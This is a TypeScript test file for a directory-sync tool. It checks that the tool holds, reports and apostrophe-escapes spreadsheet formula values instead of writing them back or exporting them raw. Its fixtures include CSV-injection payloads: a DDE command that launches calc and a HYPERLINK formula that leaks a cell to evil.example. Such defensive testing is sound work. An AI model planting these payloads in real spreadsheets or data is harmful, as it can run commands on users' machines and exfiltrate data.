import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { startScimmy } from '../connectors/scim/scimmy-server.js';
import { sweep } from '../depth.js';
import { openBoth, PHONE_OF_SERVICE } from '../scenarios/both.js';
import { HEADER, line, person } from '../scenarios/company.js';
import { openStory, type Story, summarise } from '../scenarios/kit.js';

const CALC = `=cmd|' /C calc'!A0`;

/** Texts that a colleague writes into the service, and that HR's spreadsheet would run. */
const RUN = [
  CALC,
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  '@SUM(1+1)',
  `-2+3+cmd|' /C calc'!A0`,
  '+SUM(A1:A9)',
  '+Sheet1!A1',
  '＝1+1',
  '\u200b=1+1',
];
const PASS = ['+47 22 33 44 55', '-', '- Senior', '@handle', '-5', '+5', '@', '- Senior (Oslo)'];

const keyOf = (index: number): string => `E${String(index + 1).padStart(2, '0')}`;

/** The cells of all files in a folder. */
function cellsIn(folder: string): readonly string[] {
  return readdirSync(folder).flatMap((name) => readFileSync(join(folder, name), 'utf8').split(/[;,\r\n]/));
}

test('writes harmless values back to HR verbatim, and holds and reports those that a spreadsheet would run', async () => {
  const { story, deliver, deliveries } = await openBoth({ telephone: PHONE_OF_SERVICE });
  const values = [...RUN, ...PASS];
  const deliverAll = (): void =>
    deliver(...values.map((_, index) => [keyOf(index), { phone: '1' }] as const), ['E99', { phone: '1' }]);
  deliverAll();
  await story.sync();
  for (const [index, value] of values.entries()) await story.editUser(keyOf(index), { telephone: value });

  const plan = await story.plan();
  const held = RUN.map((_, index) => `${keyOf(index)} SYNC_WRITE_BACK_FORMULA`);
  expect(plan).toMatchObject({ code: 4, json: { to_sources: { hr: { records: PASS.length } } } });
  expect(summarise(plan.json.held)).toEqual(held);
  const ran = await story.sync();
  expect(ran.code).toBe(4);
  expect(summarise(ran.json.held)).toEqual(held);
  expect(ran.json.held[0]).toMatchObject({
    entity: 'hr',
    reason: expect.stringContaining('phone of hr'),
    remedy: expect.stringContaining('`formulas: write` under `sources.hr.write_back`'),
  });
  const told = Object.fromEntries(PASS.map((value, index) => [keyOf(RUN.length + index), { phone: value }] as const));
  expect(deliveries()).toEqual([told]);
  // It is held as long as it lasts, and the values that were sent are settled.
  expect((await story.sync()).code).toBe(4);
  expect(deliveries()).toEqual([told]);
  const holds = await story.type('holds', 'list', '--json');
  expect(holds.code).toBe(0);
  const { holds: listed } = JSON.parse(holds.stdout) as { readonly holds: readonly { readonly code: string }[] };
  expect(listed.map(({ code }) => code)).toEqual(RUN.map(() => 'SYNC_WRITE_BACK_FORMULA'));
  const said = await story.type('sync');
  expect(said).toMatchObject({ code: 4, stdout: expect.stringContaining('spreadsheet would run') });
});

sweep('writes a corrected value back, but not one that becomes a formula', async () => {
  const { story, deliver, deliveries } = await openBoth({ telephone: PHONE_OF_SERVICE });
  deliver(['E1', { phone: '1' }], ['E2', { phone: '1' }]);
  await story.sync();
  await story.editUser('E1', { telephone: CALC });
  expect((await story.sync()).code).toBe(4);
  await story.editUser('E1', { telephone: '+47 22' });
  expect((await story.sync()).code).toBe(0);
  expect(deliveries()).toEqual([{ E1: { phone: '+47 22' } }]);
});

sweep('writes every value back verbatim with `formulas: write`', async () => {
  const { story, deliver, deliveries } = await openBoth({ telephone: PHONE_OF_SERVICE }, { formulas: 'write' });
  deliver(['E1', { phone: '1' }]);
  await story.sync();
  await story.editUser('E1', { telephone: '=1+1' });
  expect((await story.sync()).code).toBe(0);
  expect(deliveries()).toEqual([{ E1: { phone: '=1+1' } }]);
});

sweep.each(['hold', 'write'])(
  'handles formulas for an identity provider that takes calls: formulas %s',
  async (formulas) => {
    const { store, baseUrl } = await startScimmy([
      { id: 'p1', userName: 'jane@example.com', externalId: 'E1', title: 'Engineer' },
    ]);
    const story = await openStory();
    story.configure({
      sources: {
        idp: { type: 'scim', base_url: baseUrl, auth: { bearer: { env: 'IDP_TOKEN' } }, write_back: { formulas } },
      },
      users: {
        enrich: { idp: { join: 'idp.externalId == hr.id' } },
        fields: { title: { en: { value: 'idp.?title', authority: 'service', write_back: true } } },
      },
    });
    story.deliver([person('E1')]);
    expect((await story.sync()).code).toBe(0);
    await story.editUser('E1', { title: { en: CALC } });
    const ran = await story.sync();
    expect(ran.code).toBe(formulas === 'hold' ? 4 : 0);
    expect(summarise(ran.json.held)).toEqual(formulas === 'hold' ? ['p1 SYNC_WRITE_BACK_FORMULA'] : []);
    expect(store.get('p1')).toMatchObject({ title: formulas === 'hold' ? 'Engineer' : CALC });
  },
);

async function openTitles(titles: readonly string[]): Promise<Story> {
  const story = await openStory();
  story.configure({ users: { fields: { telephone: 'record.?phone' } } });
  const rows = titles.map((title, index) => person(keyOf(index), { title, phone: '+47 1' }));
  story.deliver([...rows, person('E98', { email: 'not an address', title: CALC })]);
  return story;
}

test('starts no cell like a formula in tables for people: plans, runs, audit, people', async () => {
  const story = await openTitles([CALC, '@SUM(1+1)', '- Senior', '+SUM(1)']);
  const out = join(story.folder, 'tables');
  await story.type('plan', '--report', `${out}/plan.csv`);
  await story.sync({ report: [] });
  await story.type('export', 'report', 'run', '--format', 'csv', '--out', `${out}-run.csv`);
  await story.type('audit', 'export', '--format', 'csv', '--out', `${out}-audit.csv`);
  await story.type('export', 'csv-import', '--out', `${out}-people.csv`);
  const tables = readdirSync(story.folder).filter((name) => name.endsWith('.csv'));
  expect(tables).toEqual(['tables-audit.csv', 'tables-people.csv', 'tables-run.csv']);
  for (const name of tables) {
    const cells = readFileSync(join(story.folder, name), 'utf8').split(/[,\r\n]"?/);
    expect(
      cells.filter((cell) => /^[=+@-]/.test(cell)),
      name,
    ).toEqual([]);
  }
  expect(readFileSync(`${out}-people.csv`, 'utf8')).toContain(`'${CALC}`);
});

sweep('explains its apostrophes in a list of people for an upload, and is exact on request', async () => {
  const story = await openTitles([CALC]);
  const out = join(story.folder, 'people.csv');
  const guarded = await story.type('export', 'csv-import', '--out', out);
  expect(guarded.stdout).toContain('for an upload, export with --formulas write');
  expect(readFileSync(out, 'utf8')).toContain(`,'+47 1,`);
  const exact = await story.type('export', 'csv-import', '--out', out, '--formulas', 'write');
  expect(exact.stdout).not.toContain('apostrophe');
  expect(readFileSync(out, 'utf8')).toContain(`,+47 1,${CALC}\n`);
});

sweep('sends an exact file to the service itself', async () => {
  const story = await openTitles([CALC, '- Senior']);
  story.configure({ users: { bulk_load: { missing: 'keep', from: 0 } } });
  const ran = await story.sync();
  expect(ran.json.done).toBe(2);
  expect(story.users().map(({ title, telephone }) => [title, telephone])).toEqual([
    [{ en: CALC }, '+47 1'],
    [{ en: '- Senior' }, '+47 1'],
  ]);
});

test('writes the list of unusable rows as text too', async () => {
  const story = await openStory();
  story.configure({ sources: { hr: { rejects: 'rejects' } } });
  story.deliverText(
    `${[HEADER, line(person('E1')), '=SUM(1);too;few', '@SUM(1);too;few', '+47;too;few'].join('\n')}\n`,
  );
  await story.sync();
  const cells = cellsIn(join(story.folder, 'drop', 'hr', 'rejects'));
  expect(cells).toContain("'=SUM(1)");
  expect(cells.filter((cell) => /^"?[=+@-]/.test(cell))).toEqual([]);
});
